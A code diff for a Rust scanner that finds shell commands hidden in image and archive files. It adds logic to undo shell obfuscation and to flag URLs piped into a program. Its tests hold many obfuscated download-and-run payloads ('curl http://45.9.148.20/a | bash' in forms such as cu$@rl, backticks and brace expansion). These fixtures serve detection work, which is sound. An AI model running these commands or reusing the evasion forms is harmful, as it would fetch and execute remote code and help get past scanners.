@@ -166,7 +166,12 @@ pub(super) fn commands(bytes: &[u8], is_any: bool) -> String {
         !text.trim().is_empty()
     } else {
         let plain = without_quotes(&text);
-        (COMMANDS.iter()).any(|sign| memchr::memmem::find(&plain, sign).is_some())
+        let has_command =
+            |text: &[u8]| (COMMANDS.iter()).any(|sign| memchr::memmem::find(text, sign).is_some());
+        has_command(&plain) || {
+            let expanded = expanded(&plain);
+            has_command(&expanded) || expanded.split(|byte| *byte == b'\n').any(is_piped)
+        }
     };
     if is_kept { text } else { String::new() }
 }
@@ -199,6 +204,40 @@ fn without_quotes(text: &str) -> Vec<u8> {
     let joined = text.replace("\\\r\n", "").replace("\\\n", "");
     let is_kept = |byte: &u8| !matches!(byte, b'\'' | b'"' | b'\\' | b'^');
     joined.bytes().filter(is_kept).collect()
+}
+
+/// Replaces the characters that a shell expands to nothing or to blanks: `cu$@rl`, ``cu``rl`` and `{curl,-s}`.
+fn expanded(plain: &[u8]) -> Vec<u8> {
+    let mut text = Vec::with_capacity(plain.len());
+    let mut is_in_braces = false;
+    let mut rest = plain;
+    while let [byte, after @ ..] = rest {
+        rest = after;
+        match byte {
+            // Parameters that are not set in a script without arguments.
+            b'$' if matches!(after.first(), Some(b'@' | b'*' | b'!' | b'1'..=b'9')) => {
+                rest = &after[1..];
+            }
+            b'`' => {}
+            b'{' | b'}' => {
+                is_in_braces = *byte == b'{';
+                text.push(b' ');
+            }
+            b',' if is_in_braces => text.push(b' '),
+            b'\t' | b'\r' => text.push(b' '),
+            _ => {
+                is_in_braces &= *byte != b'\n';
+                text.push(*byte);
+            }
+        }
+    }
+    text
+}
+
+/// Returns whether a line pipes something from an address. Metadata contains addresses, but no pipes.
+fn is_piped(line: &[u8]) -> bool {
+    let address = memchr::memmem::find(line, b"://");
+    address.is_some_and(|at| memchr::memchr(b'|', &line[at..]).is_some())
 }
 
 /// Returns the runs of at least [`MIN_RUN`] ASCII bytes.
@@ -344,6 +383,8 @@ mod tests {
         let image = b"\x89PNG\r\n\x1a\n\0 http://ns.adobe.com/xap/1.0/ \0";
         assert_eq!(commands(image, false), "");
         assert!(commands(image, true).contains("http://ns.adobe.com"));
+        let image = b"\x89PNG\r\n\x1a\n\n<x b='http://a.example'>{a, b}</x>\n| c\n";
+        assert_eq!(commands(image, false), "");
         assert_eq!(commands(b"\xff\xd8\xff\xe0\0\x10\n\0\x80\n\xff", true), "");
     }
 
@@ -356,6 +397,15 @@ mod tests {
             b"cu\0rl http://45.9.148.20/a | ba\0s\0h",
             b"\xff||c\\url http://45.9.148.20/\xff\xff |\"ba\"sh",
             b"a=cu\n\xff\xff\xff\xff\nb=rl\n$a$b http://45.9.148.20/a|$c",
+            b"curl\thttp://45.9.148.20/a\t|\tbash",
+            b"cu$@rl http://45.9.148.20/a|ba$@sh",
+            b"cu$*rl http://45.9.148.20/a |ba$*sh",
+            b"cu$1rl http://45.9.148.20/a >b; ba$1sh b",
+            b"cu``rl http://45.9.148.20/a |ba``sh",
+            b"{curl,http://45.9.148.20/a}|{bash,}",
+            b"{curl,-o,a,http://45.9.148.20/a}",
+            b"$x http://45.9.148.20/a | $((1))$y",
+            b"\xff\xff||curl\thttp://45.9.148.20/a\t|\tbash",
         ] {
             for start in [&b"\x89PNG\r\n\x1a\n\n"[..], b"PK\x03\x04\n\xff\n\n"] {
                 let bytes = [start, payload, b"\n\xff\xfe\xfd"].concat();
